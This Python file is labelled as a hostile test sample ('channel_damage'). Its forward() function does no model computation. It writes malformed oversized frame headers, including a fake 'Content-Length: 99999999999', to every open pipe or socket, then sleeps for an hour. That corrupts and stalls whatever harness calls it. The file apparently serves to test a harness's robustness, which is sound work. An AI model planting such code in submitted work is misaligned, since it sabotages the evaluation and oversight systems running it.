# kind: hostile
# attack: channel_damage
# about: Announces a frame of 4 GiB and more in several framings, then waits.

import os
import stat
import time

import torch
from torch import nn


def channel_descriptors() -> list[int]:
    """Descriptors 0..63 that are pipes or sockets; never a regular file, so nothing on a disk is changed."""
    found = []
    for descriptor in range(64):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(descriptor)
    return found


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    for descriptor in channel_descriptors():
        for header in (
            b"\xf0\xff\xff\xff",
            b"\xff" * 8,
            b"\x00" * 8,
            b"Content-Length: 99999999999\r\n\r\n",
            b"\xdd\xff\xff\xff\xff",
        ):
            try:
                os.write(descriptor, header)
            except OSError:
                break
    time.sleep(3_600)
